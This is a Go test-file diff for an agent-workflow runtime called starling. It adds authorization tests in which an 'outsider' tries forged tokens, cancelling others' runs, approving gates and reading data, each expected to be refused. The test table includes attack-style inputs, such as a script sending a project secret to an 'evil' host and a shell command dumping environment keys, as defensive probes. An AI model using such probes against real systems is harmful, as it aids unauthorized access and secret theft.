@@ -14,6 +14,9 @@ import (
 	"testing"
 
 	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"starling/lang"
+	"starling/runtime"
 )
 
 const outsiderProject = `[agents.writer]
@@ -149,6 +152,61 @@ func (o *outsider) request(token, try, body string) string {
 	return fmt.Sprint(resp.StatusCode, " ", string(text))
 }
 
+// overEngine makes a request of the protocol between command lines and servers.
+func overEngine(o *outsider, try, body string) string { return o.speak(o.own, try, body) }
+
+func blindlyOverEngine(o *outsider, try, body string) string { return o.speak(o.blind, try, body) }
+
+func nobodyOverEngine(o *outsider, try, body string) string { return o.speak("", try, body) }
+
+func (o *outsider) speak(token, try, body string) string {
+	method, path, _ := strings.Cut(try, " ")
+	q, err := http.NewRequest(method, o.address+"/engine"+path, strings.NewReader(body))
+	if err != nil {
+		return err.Error()
+	}
+	q.Header.Set("Starling-Protocol", "1")
+	resp, err := (&http.Client{Transport: bearing(token)}).Do(q)
+	if err != nil {
+		return err.Error()
+	}
+	defer resp.Body.Close()
+	text, _ := io.ReadAll(resp.Body)
+	return fmt.Sprint(resp.StatusCode, " ", string(text))
+}
+
+// withSettings starts a script over the protocol under a project of its own, and tells what became
+// of it.
+func withSettings(o *outsider, token, source string) string {
+	bundle, err := lang.Read("evil.star", func(string) ([]byte, error) { return []byte(source), nil }, nil)
+	if err != nil {
+		return err.Error()
+	}
+	r := runtime.StartRequest{Bundle: bundle.Encode(), Script: "evil.star", Env: map[string]string{"SH_KEY": "forged"}}
+	r.Settings.Project, r.Settings.ProjectFile, r.Settings.Workspace = []byte("[sh]\nallow = [\"touch\"]\n"), filepath.Join(o.dir, "starling.toml"), o.dir
+	body, err := json.Marshal(r)
+	if err != nil {
+		return err.Error()
+	}
+	said := o.speak(token, "POST /start", string(body))
+	id := regexp.MustCompile(`"id":"(\w+)"`).FindStringSubmatch(said)
+	if id == nil {
+		return said
+	}
+	return o.request(o.own, "POST /v1/await", fmt.Sprintf(`{"run": %q}`, id[1]))
+}
+
+// ownProject is withSettings with the token of the outsider.
+func ownProject(o *outsider, _, source string) string { return withSettings(o, o.own, source) }
+
+// byServer runs a command with --server.
+func byServer(o *outsider, try, _ string) string {
+	cmd := exec.Command("starling", append([]string{"--server", o.address}, strings.Fields(try)...)...)
+	cmd.Dir, cmd.Env = o.t.TempDir(), append(o.env, "STARLING_TOKEN="+o.own)
+	out, err := cmd.CombinedOutput()
+	return fmt.Sprint(err, " ", string(out))
+}
+
 // overMCP calls a tool, or reads a resource.
 func overMCP(o *outsider, try, body string) string {
 	if strings.HasPrefix(try, "starling://") {
@@ -255,6 +313,36 @@ func outsiderTries(o *outsider, evil string) []struct {
 		{"a definition of others, without read", blindly, "POST /v1/run", `{"script": "inside"}`, `^403.*capability read`},
 		{"the names of gates, without read", blindly, "POST /v1/signal", run + `, "gate": "nosuch", "choice": "yes"}`, `^404.*has no gate \\"nosuch\\""\}\}`},
 
+		{"anything, without a token", nobodyOverEngine, "GET /hello", "", `^401`},
+		{"where the store lies", overEngine, "GET /hello", "", `^200 .*"pid":0,"store":"",`},
+		{"a token of one's own", overEngine, "POST /token/add", `{"name": "evil", "can": ["all"]}`, `^400.*no such request`},
+		{"the owner's end", overEngine, "POST /stop", "", `^400.*no such request`},
+		{"the store's care", overEngine, "POST /care", `{"task": "backup", "path": "/tmp/evil"}`, `^400.*no such request`},
+		{"runs of an export", overEngine, "POST /bring", `{"trust_project": true}`, `^400.*no such request`},
+		{"an export", overEngine, "GET /export?run=" + o.victim, "", `^400.*no such request`},
+		{"trust in a project", overEngine, "POST /trust", `{}`, `^400.*no such request`},
+		{"another script for a run", overEngine, "POST /move", `{}`, `^400.*no such request`},
+		{"a project for a run", overEngine, "POST /carry", run + `, "settings": {}}`, `^400.*no such request`},
+		{"to keep the owner", overEngine, "GET /attach", "", `^400.*no such request`},
+		{"a session", overEngine, "POST /start", `{"session": true}`, `^400.*machine of its store only`},
+		{"a chunk of a session", overEngine, "POST /signal", run + `, "kind": "chunk"}`, `^400.*machine of its store only`},
+		{"a gate that is for boss", overEngine, "POST /signal", run + `, "kind": "answer", "gate": "parallel/a/ship", "choice": "yes"}`, `^403.*wrong_target`},
+		{"the same as boss", overEngine, "POST /signal", run + `, "kind": "answer", "gate": "parallel/a/ship", "choice": "yes", "as": "boss"}`, `^403.*denied`},
+		{"the end of another's run", overEngine, "POST /cancel", run + `}`, `^403.*capability cancel`},
+		{"a run again with another agent", overEngine, "POST /fork", run + `, "kind": "rerun", "step": "parallel/b/helper", "set": ["backend=writer"]}`, `^403.*capability admin`},
+		{"a name that is for boss to define", overEngine, "POST /define", `{"name": "others", "bundle": ""}`, `^4`},
+		{"a project with a run", ownProject, "", "def main():\n    return sh.run([\"touch\", \"evil\"]).code\n", `denied.*(not granted|not allowed)`},
+		{"a run, without read", blindlyOverEngine, "GET /run?run=" + o.victim, "", `^403.*capability read`},
+		{"the runs, without read", blindlyOverEngine, "POST /list", `{}`, `^403.*capability read`},
+		{"events, without read", blindlyOverEngine, "POST /watch", run + `}`, `^403.*capability read`},
+		{"content, without read", blindlyOverEngine, "GET /blob?hash=" + strings.Repeat("0", 64), "", `^403.*capability read`},
+		{"steps, without read", blindlyOverEngine, "POST /steps", run + `}`, `^403.*capability read`},
+		{"decisions, without read", blindlyOverEngine, "POST /decisions", `{}`, `^403.*capability read`},
+		{"definitions, without read", blindlyOverEngine, "POST /defined", `""`, `^403.*capability read`},
+		{"a token of one's own", byServer, "token add evil", "", `^exit status 2.*not served by --server`},
+		{"the end of another's run", byServer, "cancel " + o.victim, "", `^exit status 9`},
+		{"a gate that is for boss", byServer, "approve " + o.victim + "/parallel/a/ship", "", `^exit status [49]`},
+
 		{"the tools of others", overMCP, "tools/list", "", `^\[define run status signal inbox claim heartbeat submit steer await push remember query diagram rerun( run_\S+)*\] <nil>$`},
 		{"the end of another's run", overMCP, "cancel", run + `}`, `capability cancel`},
 		{"a gate that is for boss", overMCP, "signal", run + `, "gate": "parallel/a/ship", "choice": "yes"}`, `wrong_target`},
@@ -276,11 +364,11 @@ func outsiderTries(o *outsider, evil string) []struct {
 
 		{"an agent", byScript, "no-agents", `agent("writer")`, `denied.*not granted the agent`},
 		{"a host", byScript, "no-hosts", `http.get("` + evil + `")`, `denied.*not granted the host`},
-		{"a file to read", byScript, "no-reading", `fs.read("victim.star")`, `denied.*not granted`},
-		{"a file to write", byScript, "no-writing", `fs.write("evil", "x")`, `denied.*not granted`},
+		{"a file to read", byScript, "no-reading", `fs.read("victim.star")`, `denied.*(not granted|not allowed)`},
+		{"a file to write", byScript, "no-writing", `fs.write("evil", "x")`, `denied.*(not granted|not allowed)`},
 		{"a program", byScript, "no-programs", `sh.run(["cat", "victim.star"])`, `denied.*not granted the program`},
 		{"a tool server", byScript, "no-tools", `mcp.call("db", "select", {})`, `denied.*not granted the tool server`},
-		{"anything without a name that is granted", byScript, "nameless", `fs.read("victim.star")`, `denied.*not granted`},
+		{"anything without a name that is granted", byScript, "nameless", `fs.read("victim.star")`, `denied.*(not granted|not allowed)`},
 		{"a secret of the project", byScript, "inside", `http.get("` + evil + `", headers = {"X": secrets.get("api")})`, `denied.*cannot use the secret`},
 		{"a host that a granted one names", byScript, "inside", `http.get("` + evil + `/away")`, `denied.*not granted the host localhost`},
 		{"the variables of a program", byScript, "inside", `sh.run(["sh", "-c", "echo $SH_KEY; echo $WRITER_KEY; env"]).text`, `\[SH_KEY\]`},
